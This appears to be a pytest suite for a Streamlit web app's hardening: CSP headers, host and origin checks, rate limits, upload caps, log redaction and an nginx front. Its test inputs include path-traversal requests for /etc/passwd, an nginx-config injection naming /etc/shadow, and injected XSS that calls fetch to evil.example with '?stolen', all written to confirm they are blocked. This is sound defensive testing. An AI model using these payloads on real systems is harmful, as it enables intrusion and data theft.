"""What the server tells browsers, whom it refuses, how much it takes, and that it says nothing of the inside."""

import asyncio
import json
import re
import shutil
import socket
import subprocess
import time
from base64 import b64encode
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from hashlib import sha256
from http.client import HTTPConnection, HTTPResponse
from pathlib import Path
from threading import Thread
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect
from starlette.applications import Starlette
from starlette.exceptions import HTTPException
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route, WebSocketRoute
from starlette.testclient import TestClient, WebSocketDenialResponse
from starlette.websockets import WebSocket
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.exceptions import InvalidStatus
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin, Subprotocol

from scripts import audit
from sunes import api
from sunes.access.listening import is_from_home
from sunes.cli.serving import WHERE_NGINX_IS
from sunes.errors import UsageError
from sunes.serving import site as sites
from sunes.serving.pace import RATES, Buckets, Rate, asker
from sunes.serving.site import Site
from sunes.ui.server import gate, headers, memory, refusals, uploads
from sunes.ui.site import NAMES
from tests.browser import ROOT, Visit, serve

Open = Callable[..., Visit]
STREAM = "ws://localhost/_stcore/stream"
LANDED = "198.51.100.7"  # an address for documentation, as everybody in these tests


def policy(text: str) -> dict[str, str]:
    return {name: rule for name, _, rule in (each.strip().partition(" ") for each in text.split(";"))}


def ask(url: str, path: str, method: str = "GET", body: bytes | None = None, **given: str) -> tuple[HTTPResponse, str]:
    """An answer as it comes, whatever it is."""
    connection = HTTPConnection(urlsplit(url).netloc, timeout=60)
    connection.request(method, path, body, {name.replace("_", "-"): value for name, value in given.items()})
    answer = connection.getresponse()
    text = answer.read().decode("utf-8", "replace")
    connection.close()
    return answer, text


def policies(answer: HTTPResponse) -> list[str]:
    return answer.headers.get_all("content-security-policy") or []


def stream(url: str, origin: str) -> ClientConnection:
    """The websocket of a session, asked for by a page of somebody's."""
    address = f"{url.replace('http', 'ws')}/_stcore/stream"
    return connect(address, origin=Origin(origin), subprotocols=[Subprotocol("streamlit")])


async def _socket(websocket: WebSocket) -> None:
    await websocket.accept()
    await websocket.receive()


async def _broken(_request: Request) -> Response:
    raise RuntimeError("/srv/secret")


def guarded(*names: str, framed_by: tuple[str, ...] = ()) -> Starlette:
    """What stands before the pages, with little behind it."""
    return Starlette(
        routes=[
            Route("/", lambda _: HTMLResponse("<p>", headers={"content-security-policy": "default-src 'none'"})),
            Route("/plain", lambda _: PlainTextResponse("x")),
            Route("/healthz", lambda _: PlainTextResponse("ok")),
            Route("/broken", _broken),
            WebSocketRoute("/_stcore/stream", _socket),
            *api.ROUTES,
        ],
        middleware=[Middleware(headers.SafeHeaders, framed_by=framed_by), Middleware(gate.Gate, names=names)],
        exception_handlers={HTTPException: refusals.refuse, Exception: refusals.fail},
    )


def client(app: Starlette, url: str = "http://localhost", address: str = LANDED) -> TestClient:
    return TestClient(app, url, raise_server_exceptions=False, client=(address, 1234))


# Headers -------------------------------------------------------------------------------------------------------------


def test_only_the_scripts_written_into_the_page_run(site: str) -> None:
    answer, document = ask(site, "/carte")
    own = policy(policies(answer)[0])
    scripts = re.findall(r"<script>(.*?)</script>", document, re.DOTALL)
    assert len(scripts) > 3
    for script in scripts:
        assert f"'sha256-{b64encode(sha256(script.encode()).digest()).decode()}'" in own["script-src"]
    assert "'unsafe-inline'" not in own["script-src"]
    assert "'unsafe-eval'" not in own["script-src"]
    assert own["default-src"] == own["object-src"] == own["base-uri"] == own["form-action"] == "'none'"
    assert "http" not in " ".join(own.values())  # nothing comes from anybody else
    again, _ = ask(site, "/carte", if_none_match=answer.headers["etag"])
    assert again.status == 304
    assert policies(again) == policies(answer)


@pytest.mark.parametrize(
    "path",
    ["/", "/data/v1/snapshots.json", "/media/none", "/healthz", "/_stcore/host-config", "/presentation/ecran?x=1"],
)
def test_no_answer_leaves_without_its_headers(site: str, path: str) -> None:
    answer, _ = ask(site, path)
    first, *_, last = (*policies(answer), policies(answer)[-1])
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert "camera=()" in answer.headers["permissions-policy"]
    assert "default-src" in first
    assert policy(last)["frame-ancestors"] in ("'self'", "'none'")
    is_page = answer.headers["content-type"].startswith("text/html")
    assert answer.headers["cross-origin-opener-policy"] == ("same-origin" if is_page else None)
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"  # at home also of data


def test_open_data_may_be_read_into_other_sites() -> None:
    answer = client(guarded()).get("/data/v1/openapi.json")
    assert answer.headers["access-control-allow-origin"] == "*"
    assert "cross-origin-resource-policy" not in answer.headers


def test_the_page_takes_orders_from_no_other_window(site: str) -> None:
    assert json.loads(ask(site, "/_stcore/host-config")[1])["allowedOrigins"] == []


def test_other_sites_frame_the_pages_only_where_they_are_named(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.delenv(headers.ANCESTORS, raising=False)
    assert headers.ancestors() == ()
    monkeypatch.setenv(headers.ANCESTORS, "https://intranet.exemple.fr, http://10.0.0.8:8080 https://*.agence.fr")
    named = headers.ancestors()
    assert named == ("https://intranet.exemple.fr", "http://10.0.0.8:8080", "https://*.agence.fr")
    for path in ("/", "/presentation/ecran?theme=x"):
        answer = client(guarded(framed_by=named)).get(path)
        assert answer.headers.get_list("content-security-policy")[-1] == f"frame-ancestors 'self' {' '.join(named)}"
        assert "x-frame-options" not in answer.headers
    assert client(guarded()).get("/").headers["x-frame-options"] == "SAMEORIGIN"
    assert caplog.text == ""
    monkeypatch.setenv(headers.ANCESTORS, "https://a.fr;script-src 'unsafe-inline' javascript:x data:")
    assert headers.ancestors() == ()
    assert "n’est pas l’adresse d’un site" in caplog.text


def test_no_cookie_goes_over_the_network_in_clear() -> None:
    given = {"set-cookie": "_streamlit_user=x; Path=/; HttpOnly; SameSite=Lax"}
    app = Starlette(
        routes=[Route("/", lambda _: PlainTextResponse("x", headers=given))],
        middleware=[Middleware(headers.SafeHeaders)],
    )
    assert client(app, "https://sunes.example").get("/").headers["set-cookie"].endswith("; SameSite=Lax; Secure")
    assert client(app).get("/").headers["set-cookie"] == given["set-cookie"]


# Who is let in -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["localhost:8501", "127.0.0.1", "[::1]:8501", "sunes.localhost"])
def test_a_server_at_home_answers_to_the_names_of_its_machine(host: str) -> None:
    assert client(guarded()).get("/plain", headers={"host": host}).status_code == 200


@pytest.mark.parametrize("host", ["rebound.example:8501", "localhost.example", "127.0.0.1.example", "a@localhost/", ""])
def test_a_page_whose_name_was_made_to_lead_here_reads_nothing(host: str) -> None:
    answer = client(guarded()).get("/plain", headers={"host": host})
    assert (answer.status_code, answer.text) == (400, "Ce site ne répond pas sous ce nom.")
    assert client(guarded()).get("/healthz", headers={"host": host}).status_code == 200


def test_a_server_elsewhere_answers_to_its_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUNES_LISTENS", "0.0.0.0")
    assert client(guarded(), "http://any.example").get("/plain").status_code == 200
    monkeypatch.setenv(gate.HOSTS, "Sunes.exemple.fr, *.agence.fr")
    app = guarded(*gate.hosts())
    for host, status in {"sunes.exemple.fr": 200, "b.agence.fr": 200, "agence.fr": 400, "evil-agence.fr": 400}.items():
        assert client(app, f"http://{host}").get("/plain").status_code == status, host


def at_home(**given: str) -> bool:
    headers = {"host": "127.0.0.1:8501"} | {name.replace("_", "-"): value for name, value in given.items()}
    return is_from_home("127.0.0.1", headers.items())


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("X-Forwarded-For", "8.8.8.8"),
        ("X-Forwarded-For", "127.0.0.1, 8.8.8.8"),
        ("X-Forwarded-For", ""),
        ("X-Forwarded-Host", "sunes.exemple.fr"),
        ("X-Forwarded-Proto", "http"),
        ("X-Forwarded-Server", "front"),
        ("X-Real-IP", "192.168.1.7"),
        ("Forwarded", "for=192.0.2.60;proto=http"),
        ("Via", "1.1 front"),
        ("X-Sunes-Through", "127.0.0.1"),  # our nginx never says so by itself
    ],
)
def test_a_proxy_that_says_so_is_not_at_home(header: str, value: str) -> None:
    assert not at_home(**{header: value})


def test_a_browser_of_this_machine_is_at_home_through_our_own_nginx_too() -> None:
    assert at_home()
    assert at_home(X_Forwarded_For="127.0.0.1")
    assert at_home(X_Forwarded_For="::1, 127.0.0.1:5000", X_Real_IP="::1", X_Forwarded_Host="localhost:8501")
    assert not is_from_home("127.0.0.1", [("Host", "localhost"), ("Host", "sunes.exemple.fr")])
    assert not is_from_home("127.0.0.1", [])


@pytest.mark.parametrize("path", ["agent/mcp", "agent/interact", "agent/openapi.json", "metrics"])
def test_the_doors_of_the_framework_that_nobody_needs_are_shut(site: str, path: str) -> None:
    answer, text = ask(site, f"/_stcore/{path}")
    assert (answer.status, text) == (404, "Il n’y a rien à cette adresse.")
    assert "_stcore" not in ask(site, "/")[1]


def test_a_page_of_another_site_gets_no_session(site: str) -> None:
    for origin in ("https://evil.example", "http://localhost:1", "null"):
        with pytest.raises(InvalidStatus) as refused:
            stream(site, origin)
        assert refused.value.response.status_code == 403
    with stream(site, site):
        pass


# How often -----------------------------------------------------------------------------------------------------------


def test_a_storm_of_300_behind_one_address_passes() -> None:
    for name, requests in {"login": 3, "screen": 3, "stream": 2, "data": 1}.items():
        bucket = Buckets(RATES[name])
        waits = [bucket.take(LANDED, 10 * turn / (300 * requests)) for turn in range(300 * requests)]
        assert set(waits) == {0}, name


def test_a_loop_is_told_to_wait_and_may_go_on_after_that() -> None:
    bucket = Buckets(Rate(at_once=3, per_second=1))
    assert [bucket.take("a", 0) for _ in range(5)] == [0, 0, 0, 1, 1]
    assert bucket.take("b", 0) == 0  # another one is not held up
    assert [bucket.take("a", 2) for _ in range(3)] == [0, 0, 1]
    assert [bucket.take("a", 1000) for _ in range(4)] == [0, 0, 0, 1]


def test_no_crowd_of_addresses_fills_the_memory() -> None:
    bucket = Buckets(Rate(1, 1), most=10)
    assert all(bucket.take(str(number), 0) == 0 for number in range(1000))
    assert len(bucket._left) == 10


@pytest.mark.parametrize(
    ("address", "counted"),
    [
        ("203.0.113.9", "203.0.113.9"),
        ("::ffff:203.0.113.9", "203.0.113.9"),
        ("2001:db8:1:2:3:4:5:6", "2001:db8:1:2::"),
        ("127.0.0.1", None),
        ("::1", None),
        ("testclient", "testclient"),
    ],
)
def test_somebody_has_one_address_or_a_network_of_them(address: str, counted: str | None) -> None:
    assert asker(address) == counted


def test_whoever_asks_too_often_is_told_so_in_french(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(RATES, "data", Rate(2, 1))
    monkeypatch.setitem(RATES, "screen", Rate(2, 1))
    monkeypatch.setitem(RATES, "stream", Rate(1, 1))
    with client(guarded()) as visitor:
        asked = [visitor.get("/data/v1/openapi.json") for _ in range(3)]
        assert [each.status_code for each in asked] == [200, 200, 429]
        assert asked[-1].headers["retry-after"] == "1"
        assert asked[-1].headers["content-type"].startswith("application/problem+json")
        assert asked[-1].json()["detail"].startswith("Trop de demandes en peu de temps")
        assert visitor.get("/plain").status_code == 200
        assert [visitor.get("/presentation/ecran?theme=x").status_code for _ in range(3)] == [400, 400, 429]
        with visitor.websocket_connect(STREAM) as opened:
            opened.send_bytes(b"")
        with pytest.raises(WebSocketDenialResponse) as refused, visitor.websocket_connect(STREAM):
            pass
        assert (refused.value.status_code, refused.value.headers["retry-after"]) == (429, "1")
    with client(guarded(), address="127.0.0.1") as ourselves:
        assert {ourselves.get("/data/v1/openapi.json").status_code for _ in range(5)} == {200}


# What is sent --------------------------------------------------------------------------------------------------------

_PART = '--b\r\nContent-Disposition: form-data; name="f"; filename="a.toml"\r\n\r\n{}\r\n--b--\r\n'


def _message(socket: ClientConnection) -> ForwardMsg:
    received = socket.recv(60)
    assert isinstance(received, bytes)
    message: ForwardMsg = ForwardMsg.FromString(received)
    return message


@contextmanager
def session(url: str) -> Iterator[Callable[..., tuple[int, str]]]:
    """A page that is open, and how it sends a file: `send("file id", "content")` → status, sentence."""
    cookie = ask(url, "/_stcore/health")[0].headers["set-cookie"]
    assert "SameSite=Lax" in cookie
    token = cookie.split(";")[0].partition("=")[2]
    with stream(url, url) as socket:
        socket.send(b"\x5a\x00")  # rerun_script
        while not (started := _message(socket)).HasField("new_session"):
            pass
        known = started.new_session.initialize.session_id

        def send(file: str, content: str = "x", **given: str) -> tuple[int, str]:
            passes = {"cookie": f"_streamlit_xsrf={token}", "x_xsrftoken": token}
            sent = {"content_type": "multipart/form-data; boundary=b", **passes, **given}
            answer, said = ask(url, f"{uploads.PREFIX}{known}/{file}", "PUT", _PART.format(content).encode(), **sent)
            return answer.status, said

        yield send


def test_only_our_own_page_sends_files(site: str) -> None:
    with session(site) as send:
        assert send("a", x_xsrftoken="", cookie="")[0] == 403
        assert send("a", x_xsrftoken="2|00|00|0")[0] == 403
        assert send("a")[0] == 204
    answer, _ = ask(site, f"{uploads.PREFIX}nobody/a", "PUT", b"x")
    assert answer.status in (400, 403)


def test_files_are_counted(site: str) -> None:
    with session(site) as send:
        statuses = [send(str(number))[0] for number in range(uploads.FILES + 1)]
        assert statuses == [204] * uploads.FILES + [413]
        assert send("more")[1].startswith("Trop de fichiers, ou trop volumineux")


@pytest.mark.parametrize(
    ("header", "value", "status"), [("Transfer-Encoding", "chunked", 411), ("Content-Length", str(500 << 20), 413)]
)
def test_a_file_whose_size_is_not_told_or_too_large_is_not_read(
    site: str, header: str, value: str, status: int
) -> None:
    connection = HTTPConnection(urlsplit(site).netloc, timeout=60)
    connection.putrequest("PUT", f"{uploads.PREFIX}a/b")
    connection.putheader(header, value)
    connection.endheaders()
    assert connection.getresponse().status == status  # without a byte of it
    connection.close()


def test_who_may_not_import_sends_no_more_than_a_deck(tmp_path: Path) -> None:
    with serve(tmp_path / "server.log", SUNES_LISTENS="0.0.0.0") as url, session(url) as send:
        assert send("a")[0] == 204
        assert send("b", content_length=str(3 << 20))[0] == 403
        assert send("c", "x" * (3 << 19))[0] == 204
        assert send("d", content_length=str(3 << 19))[0] == 413  # nor with several files


def upload(size: int, who: bytes = b"") -> dict[str, Any]:
    """A file that somebody sends, as a server tells of it."""
    return {
        "type": "http",
        "method": "PUT",
        "path": f"{uploads.PREFIX}a/b",
        "headers": [(b"content-length", str(size).encode()), (b"who", who)],
        "query_string": b"",
        "server": ("localhost", 80),
        "scheme": "http",
    }


async def never(_scope: Any, _receive: Any, _send: Any) -> None:
    await asyncio.Event().wait()


@pytest.fixture
def editors(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is kept yet; editors say that they are."""
    monkeypatch.setattr(uploads, "_kept", dict)
    monkeypatch.setattr(uploads, "_imports", lambda request: request.headers["who"] == "editor")


def test_what_is_on_its_way_counts_and_takes_no_longer_than_it_may(
    editors: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers: dict[bytes, list[int]] = {b"editor": [], b"visitor": []}
    for imports, lane in uploads.LANES.items():
        monkeypatch.setitem(uploads.LANES, imports, uploads.Lane(lane.at_once, 0.05))

    async def run() -> None:
        bounded = uploads.BoundedUploads(never)

        async def sent(who: bytes) -> None:
            async def send(message: Any) -> None:
                if message["type"] == "http.response.start":
                    answers[who].append(message["status"])

            await bounded(upload(9, who), None, send)  # type: ignore[arg-type]

        # Visitors are there first, and keep nobody but visitors waiting.
        await asyncio.gather(*map(sent, 9 * [b"visitor"] + 9 * [b"editor"]))
        assert bounded._coming == {True: [], False: []}

    asyncio.run(run())
    assert sorted(answers[b"visitor"]) == [408] * 2 + [503] * 7
    assert sorted(answers[b"editor"]) == [408] * 8 + [503]


def test_what_visitors_have_sent_leaves_room_for_imports(editors: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(memory, "limit", lambda: 800 << 20)
    monkeypatch.setattr(uploads, "_kept", lambda: {str(each): (2 << 20,) for each in range(50)})
    bounded = uploads.BoundedUploads(never)
    assert bounded._refuses(Request(upload(1 << 20, b"visitor")), 1 << 20, False) == 503
    assert bounded._refuses(Request(upload(90 << 20, b"editor")), 90 << 20, True) == 0
    assert bounded._refuses(Request(upload(100 << 20, b"editor")), (100 << 20) + 1, True) == 503


def test_a_page_that_is_closed_while_it_sends_is_no_trouble(editors: None, caplog: pytest.LogCaptureFixture) -> None:
    async def leaves(scope: Any, receive: Any, send: Any) -> None:
        await Request(scope, receive).body()

    async def receive() -> Any:
        return {"type": "http.disconnect"}

    async def send(message: Any) -> None:
        raise AssertionError(message)

    bounded = uploads.BoundedUploads(leaves)
    asyncio.run(bounded(upload(9), receive, send))
    assert bounded._coming == {True: [], False: []}
    assert caplog.text == ""


# What is not said ----------------------------------------------------------------------------------------------------


def test_a_fault_says_nothing_of_the_inside() -> None:
    answer = client(guarded()).get("/broken")
    assert answer.status_code == 500
    assert re.fullmatch(r"Une erreur inattendue s’est produite ; signalez-la avec la référence \w{8}\.", answer.text)


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("POST", "/", 405),
        ("TRACE", "/", 405),
        ("DELETE", "/media/x", 405),
        ("GET", "/media/none", 404),
        ("GET", "/component/x/y", 404),
        ("GET", "/..%2f..%2fetc/passwd", 400),
        ("GET", "/static/%2e%2e/%2e%2e/%2e%2e/app.py", 400),
        ("GET", "/media/%00", 400),
        ("GET", "//evil.example/", 400),
    ],
)
def test_what_there_is_not_is_refused_in_one_line(site: str, method: str, path: str, status: int) -> None:
    answer, text = ask(site, path, method)
    assert answer.status == status
    assert len(text) < 100
    assert not re.search(r"Traceback|\.py|streamlit|starlette|uvicorn", text, re.IGNORECASE)


def test_the_log_holds_no_secret_and_calls_no_refusal_an_error(tmp_path: Path) -> None:
    log = tmp_path / "server.log"
    secret = "s3cr3t-0123456789"
    with serve(log) as url:
        for path in ("/", "/data/v1/metrics.json?snapshot=x", "/media/none", "/oauth2callback?code=x", "/auth/login"):
            ask(url, path, authorization=f"Bearer {secret}", cookie=f"_streamlit_user={secret}", x_xsrftoken=secret)
        ask(url, f"/data/v1/metrics.json?key={secret}")
        ask(url, f"/oauth2callback?code={secret}&state={secret}")
        with pytest.raises(InvalidStatus), stream(url, "https://evil.example"):
            pass
    written = log.read_text("utf-8")
    assert secret not in written
    assert "handshake" not in written  # uvicorn, of every websocket that is refused


# nginx ---------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def nginx() -> str:
    found = shutil.which("nginx", path=WHERE_NGINX_IS)
    if found is None:
        pytest.skip("nginx is not installed")
    return found


@contextmanager
def fronted(nginx: str, folder: Path, made: Site) -> Iterator[None]:
    """nginx before a process that says « ok » to everything, and tells in `Told` what it was told of who asks."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked = (await reader.readuntil(b"\r\n\r\n")).decode().split("\r\n")
        told = sorted(
            each.lower() for each in asked if each.lower().startswith("x-") and "request-id" not in each.lower()
        )
        head = f"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\nTold: {'; '.join(told)}\r\n\r\n"
        writer.write(f"{head}ok".encode())
        await writer.drain()
        writer.close()

    async def listen() -> None:
        async with await asyncio.start_unix_server(answer, made.workers[0].socket, backlog=2000) as server:
            loop.call_soon_threadsafe(ready.set)
            await server.serve_forever()

    loop = asyncio.new_event_loop()
    ready = asyncio.Event()
    serving = loop.create_task(listen())
    thread = Thread(target=lambda: loop.run_until_complete(asyncio.gather(serving, return_exceptions=True)))
    thread.start()
    configuration = folder / "nginx.conf"
    text = sites.whole_file(made, folder, 2048)
    configuration.write_text(re.sub(r"listen (\[::\]:)?80;", "", text), "utf-8")
    server = subprocess.Popen((nginx, "-p", folder, "-e", "stderr", "-c", configuration), stderr=subprocess.PIPE)
    port = int(made.listen[0].split(":")[1].split()[0])
    try:
        while True:
            with socket.socket() as there:
                if there.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert server.poll() is None, server.stderr and server.stderr.read()
            time.sleep(0.05)
        yield
    finally:
        server.terminate()
        server.communicate()
        loop.call_soon_threadsafe(serving.cancel)
        thread.join()
        loop.close()


def free_port() -> int:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return int(free.getsockname()[1])


def test_nginx_lets_an_agency_in_and_slows_a_loop_down(
    nginx: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SUNES_PROXIES", "127.0.0.1")
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    made = Site(sites.workers(1, tmp_path), (f"127.0.0.1:{port}",))

    def asked(path: str, address: str) -> int:
        return ask(url, path, x_forwarded_for=address)[0].status

    with fronted(nginx, tmp_path, made), ThreadPoolExecutor(20) as people:
        agency: list[tuple[str, ...]] = [
            ("/", "/_stcore/stream", "/auth/login", "/oauth2callback", "/presentation/deck.pptx")
        ] * 300
        agency += [("/presentation/ecran?deck=x", "/presentation/ecran?deck=x&known_at=x")] * 300
        paths = [path for visit in agency for path in visit]
        assert set(people.map(lambda path: asked(path, "203.0.113.1"), paths)) == {200}

        statuses = list(people.map(lambda _: asked("/data/v1/x", "2001:db8:1:2::5"), range(1200)))
        assert statuses.count(429) > 300
        assert asked("/data/v1/x", "2001:db8:1:2:ffff::9") == 429  # somebody's network is somebody
        assert asked("/data/v1/x", "2001:db8:1:3::5") == 200
        answer, text = ask(url, "/data/v1/x", x_forwarded_for="2001:db8:1:2::5")
        assert (answer.status, answer.headers["retry-after"]) == (429, "60")
        assert answer.headers["content-type"] == "application/problem+json"
        assert json.loads(text)["detail"].startswith("Trop de demandes")
        statuses = list(people.map(lambda _: asked("/presentation/ecran", "203.0.113.2"), range(1500)))
        assert statuses.count(429) > 100
        assert {asked("/data/v1/x", "127.0.0.1") for _ in range(500)} == {200}

        answer, text = ask(url, "/", "POST", content_length=str(5 << 20))
        assert (answer.status, text) == (413, "Ce fichier est trop volumineux (100 Mo au plus).")
        assert answer.headers["server"] == "nginx"
        assert "SameSite=Lax" in ask(url, "/")[0].headers["set-cookie"]
        behind_tls = ask(url, "/", x_forwarded_proto="https")[0].headers
        assert "; Secure; " in behind_tls["set-cookie"]
        assert behind_tls["strict-transport-security"] == "max-age=31536000"


def test_nginx_hands_on_that_somebody_comes_through_another_server(nginx: str, tmp_path: Path) -> None:
    port = free_port()
    url = f"http://127.0.0.1:{port}"

    def told(header: str, value: str) -> list[tuple[str, str]]:
        said = [
            each.partition(": ")
            for each in str(ask(url, "/", "GET", None, **{header: value})[0].headers["told"]).split("; ")
        ]
        return [("host", f"127.0.0.1:{port}"), *((name, value) for name, _, value in said)]

    with fronted(nginx, tmp_path, Site(sites.workers(1, tmp_path), (f"127.0.0.1:{port}",))):
        assert told("x_sunes_through", "made up")[1:] == [("x-forwarded-for", "127.0.0.1")]
        assert is_from_home("127.0.0.1", told("accept", "*/*"))
        for header in ("x_forwarded_for", "x_forwarded_proto", "x_forwarded_host", "x_real_ip"):
            assert not is_from_home("127.0.0.1", told(header, "8.8.8.8")), header


def test_nginx_in_front_answers_to_its_name_and_says_that_it_stays_encrypted(nginx: str, tmp_path: Path) -> None:
    key, certificate = tmp_path / "key.pem", tmp_path / "certificate.pem"
    subprocess.run(
        (
            *(
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-days",
                "2",
                "-subj",
                "/CN=sunes.exemple.fr",
            ),
            *("-keyout", key, "-out", certificate),
        ),
        check=True,
        capture_output=True,
    )
    port = free_port()
    made = Site(sites.workers(1, tmp_path), (f"127.0.0.1:{port} ssl",), "sunes.exemple.fr", certificate, key)

    def asked(host: str, path: str) -> str:
        command = ("curl", "--silent", "--insecure", "--include", "--header", f"Host: {host}", "--http1.1")
        return subprocess.run((*command, f"https://127.0.0.1:{port}{path}"), capture_output=True, text=True).stdout

    with fronted(nginx, tmp_path, made):
        for path in ("/", "/data/v1/x", "/static/none.js", "/_stcore/upload_file/a/b", "/_stcore/health"):
            assert asked("sunes.exemple.fr", path).count("Strict-Transport-Security: max-age=31536000") == 1, path
        assert asked("rebound.example", "/") == ""
        assert "200 OK" in asked("127.0.0.1", "/healthz")


def test_a_server_in_front_that_is_no_address_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUNES_PROXIES", "10.0.0.1; include /etc/shadow")
    with pytest.raises(UsageError, match="indiquez les adresses des serveurs"):
        sites.site_file(Site(sites.workers(1, Path("/run")), ("127.0.0.1:1",)))


# In a browser --------------------------------------------------------------------------------------------------------

_WATCH = """window.violations = []
document.addEventListener("securitypolicyviolation", (event) =>
    violations.push(`${event.effectiveDirective}: ${event.blockedURI} (${event.sourceFile})`))"""


def calm(here: Visit) -> None:
    """Nothing was blocked, nothing complained, nobody else was asked."""
    assert here.page.evaluate("violations") == []
    assert here.errors == []
    assert here.hosts <= {"127.0.0.1", "local"}


@pytest.mark.parametrize("path", [*sorted(NAMES), "presentation/ecran"])
def test_no_page_does_what_its_policy_forbids(site: str, browser: Any, path: str) -> None:
    context = browser.new_context(locale="fr-FR", viewport={"width": 1366, "height": 768})
    context.add_init_script(_WATCH)
    here = Visit(context.new_page())
    try:
        if path.startswith("presentation/"):
            here.page.on("console", lambda said: here.errors.append(said.text) if said.type == "error" else None)
            here.page.goto(f"{site}/{path}")
            expect(here.page.locator("h1").first).to_be_visible()
        else:
            here.goto(f"{site}/{path}")
        if path == "":
            here.page.locator("summary", has_text="Voir les chiffres").first.click()
            expect(here.page.get_by_role("table").first).to_be_visible()
        if path == "carte":
            expect(here.page.locator("canvas").first).to_be_visible()
        if path == "etablissements":
            with here.page.expect_download() as download:
                here.page.get_by_role("button", name="Télécharger (CSV)").click()
            assert Path(download.value.path()).stat().st_size > 0
        if path == "importer":
            here.page.locator("input[type=file]").first.set_input_files(ROOT / "README.md")
            expect(here.page.get_by_text("README.md").first).to_be_visible()
        if not path.startswith("presentation/"):
            here.settle()
        calm(here)
    finally:
        context.close()


def test_the_policy_stops_a_script_that_slipped_in(site: str, visit: Open) -> None:
    """Were a name ever written as HTML: it would draw nothing, run nothing, send nothing."""
    here = visit(site)
    here.page.evaluate(
        """() => {
            const inside = document.querySelector("[data-testid=stMain]")
            inside.insertAdjacentHTML("beforeend", `<img src=x onerror="window.ran = 1">`
                + `<a id=lure href="javascript:window.ran = 2">x</a><iframe src="https://evil.example/"></iframe>`)
            const script = document.createElement("script")
            script.textContent = "window.ran = 3"
            inside.append(script)
            document.querySelector("#lure").click()
            fetch("https://evil.example/?stolen").catch(() => { window.kept = 1 })
        }"""
    )
    here.page.wait_for_function("window.kept")
    assert here.page.evaluate("window.ran") is None
    blocked = " ".join(here.errors)
    assert all(directive in blocked for directive in ("script-src", "frame-src", "connect-src"))


# What it is made of --------------------------------------------------------------------------------------------------


def test_every_licence_of_what_runs_is_one_that_may_be_shipped() -> None:
    found = audit.licences()
    assert len(found) > 50
    assert {name: said for name, said in found.items() if not audit.is_allowed(said)} == {}


@pytest.mark.parametrize(
    ("expression", "is_allowed"),
    [
        ("MIT", True),
        ("GPL-3.0-only", False),
        ("GPL-2.0-only OR MIT", True),
        ("MIT AND LGPL-3.0", False),
        ("MPL-2.0 AND (Apache-2.0 OR GPL-3.0)", True),
        ("(GPL-3.0 OR MIT) AND Proprietary", False),
        ("", False),
    ],
)
def test_a_licence_with_a_choice_is_read(expression: str, is_allowed: bool) -> None:
    assert audit.is_allowed(expression) is is_allowed


def test_what_could_not_be_looked_up_is_no_vulnerability(monkeypatch: pytest.MonkeyPatch) -> None:
    said = {
        "dependencies": [
            {"name": "a", "skip_reason": "not found"},
            {"name": "b", "version": "1", "vulns": [{"id": "PYSEC-1", "aliases": ["CVE-1"], "fix_versions": ["2"]}]},
            {"name": "c", "version": "1", "vulns": [{"id": "PYSEC-2", "aliases": ["CVE-2"], "fix_versions": []}]},
        ]
    }
    monkeypatch.setattr(subprocess, "run", lambda *_, **__: SimpleNamespace(stdout=json.dumps(said)))
    monkeypatch.setattr(audit, "IGNORED", {"CVE-2": "nothing here calls it"})
    assert audit.vulnerabilities() == (["b 1: PYSEC-1, fixed in 2"], 1)
    monkeypatch.setattr(subprocess, "run", lambda *_, **__: SimpleNamespace(stdout="no network"))
    assert audit.vulnerabilities()[0] == []
